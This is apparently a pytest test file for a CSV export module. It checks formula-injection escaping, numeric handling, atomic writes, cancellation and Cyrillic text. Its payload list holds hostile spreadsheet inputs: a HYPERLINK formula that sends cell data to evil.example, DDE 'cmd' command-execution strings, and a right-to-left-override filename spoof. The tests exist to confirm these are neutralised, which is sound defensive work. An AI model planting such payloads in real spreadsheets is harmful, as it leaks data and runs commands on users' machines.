"""CSV output: escaped against formula injection, numbers kept, atomic, UTF-8 with BOM."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest

from intake_app.errors import Cancelled, StorageError
from intake_app.progress import CancelToken
from intake_app.reports.csvout import escape_cell, needs_escape, write_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"нажмите")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]


def _read(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_formula_payload_escaped(payload: str) -> None:
    assert escape_cell(payload) == "'" + payload


@pytest.mark.parametrize("payload", ["  =1+1", " \t@SUM(A1)", "\u00a0-1", "\n+1"])
def test_csv_formula_after_leading_whitespace_escaped(payload: str) -> None:
    assert needs_escape(payload)
    assert str(escape_cell(payload)).startswith("'")


def test_csv_leading_cr_is_shown_and_neutral() -> None:
    # A bare CR becomes a visible token, so nothing starts with a formula character.
    assert escape_cell("\r=1+1") == "⟨U+000D⟩=1+1"
    assert escape_cell("\r=1+1", show_controls=False) == "'\r=1+1"


@pytest.mark.parametrize("text", ["Уральск", "a=b", "1-2", "e@mail", "", "Орал (Oral)"])
def test_csv_harmless_text_untouched(text: str) -> None:
    assert escape_cell(text) == text


def test_csv_numbers_stay_numbers() -> None:
    assert escape_cell(-2) == -2
    assert escape_cell(3.5) == 3.5
    assert escape_cell(True) == "true"
    assert escape_cell(None) == ""
    assert escape_cell(float("nan")) == "nan"
    with pytest.raises(TypeError):
        escape_cell(object())  # type: ignore[arg-type]


def test_csv_roundtrip_cyrillic_and_payloads(tmp_path: Path) -> None:
    out = tmp_path / "stats.csv"
    rows = [["Уральск / Орал", 12, 1.5], ["Өскемен", -3, 0.0]]
    rows += [[p, 1, 2] for p in PAYLOADS]
    rows += [["spoof\u202ecod.exe", 0, 0]]
    n = write_csv(out, ["город", "cases", "share"], rows)
    assert n == len(rows)
    got = _read(out)
    assert got[0] == ["город", "cases", "share"]
    assert got[1] == ["Уральск / Орал", "12", "1.5"]
    assert got[2] == ["Өскемен", "-3", "0.0"]  # a negative number is written unquoted
    for payload, row in zip(PAYLOADS, got[3:], strict=False):
        assert row[0] == "'" + payload
    assert got[-1][0] == "spoof⟨U+202E⟩cod.exe"
    assert b"\r\n" in out.read_bytes()
    assert out.stat().st_mode & 0o777 == 0o600


def test_csv_header_escaped(tmp_path: Path) -> None:
    out = tmp_path / "h.csv"
    write_csv(out, ["=evil()"], [])
    assert _read(out) == [["'=evil()"]]


def test_csv_streams_a_generator(tmp_path: Path) -> None:
    out = tmp_path / "big.csv"
    n = write_csv(out, ["i", "t"], ([i, f"строка {i}"] for i in range(5000)))
    assert n == 5000
    assert len(_read(out)) == 5001


def test_csv_failure_leaves_nothing(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"

    def rows():  # type: ignore[no-untyped-def]
        yield ["ok", 1]
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError):
        write_csv(out, ["a", "b"], rows())
    assert os.listdir(tmp_path) == []


def test_csv_cancel_leaves_old_file(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    out.write_bytes(b"old")
    token = CancelToken()
    token.cancel()
    with pytest.raises(Cancelled):
        write_csv(out, ["a"], [["b"]], cancel=token)
    assert out.read_bytes() == b"old"
    assert os.listdir(tmp_path) == ["x.csv"]


def test_csv_unwritable_folder_is_a_clear_error(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-folder" / "x.csv"
    with pytest.raises(StorageError):
        write_csv(missing, ["a"], [])
